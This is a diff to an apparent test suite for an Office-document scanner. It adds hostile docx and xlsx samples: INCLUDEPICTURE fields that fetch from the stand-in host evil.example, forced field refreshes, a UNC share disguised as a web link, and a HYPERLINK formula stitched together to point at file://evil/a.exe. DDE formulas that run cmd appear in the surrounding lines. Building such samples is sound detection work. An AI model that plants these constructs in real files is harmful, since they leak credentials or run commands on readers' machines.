@@ -314,6 +314,27 @@ HOSTILE: dict[str, tuple[str, str, bytes]] = {
             '<w:fldSimple w:dirty="true" w:instr="INCLUDEPICTURE &quot;http://evil.example&quot;"/>'
         ),
     ),
+    "a picture that is loaded anew before it is shown": (
+        "docx",
+        "office_field",
+        word(
+            field('INCLUDEPICTURE "http://evil.example"').replace(
+                '"end"', '"separate" w:dirty="true"'
+            )
+        ),
+    ),
+    "all fields anew": ("docx", "office_field", word("<w:updateFields/>")),
+    "all fields anew, said": ("docx", "office_field", word('<w:updateFields w:val="true"/>')),
+    "a picture from a share that looks like the web": (
+        "docx",
+        "office_field",
+        word(field(r'INCLUDEPICTURE "http:\\evil.example@80\a.png" \d')),
+    ),
+    "a link that a formula puts together": (
+        "xlsx",
+        "office_link",
+        formula('HYPERLINK("fi"&amp;"le://evil/a.exe","x")'),
+    ),
     "DDE in a formula": ("xlsx", "office_field", formula("cmd|'/c calc'!A1")),
     "DDE with a quoted name": ("xlsx", "office_field", formula("'cmd'|'/c calc'!A1")),
     "a web service": (
@@ -508,6 +529,7 @@ def as_excel_writes_it() -> bytes:
     for number in range(5):
         page.append([number, f"=A{number + 1}*2", '=IF(A1="a|b","\\\\","://")', "='a|b'!A1"])
     page["F1"] = '=HYPERLINK("https://example.org/x","there")&HYPERLINK("#Sheet!A1")'
+    page["F2"] = '=HYPERLINK("https://example.org/"&A1,"there")'
     page["G1"].hyperlink = "https://example.org"
     page["H1"].comment = Comment("Look here", "Ana")
     chart = BarChart()
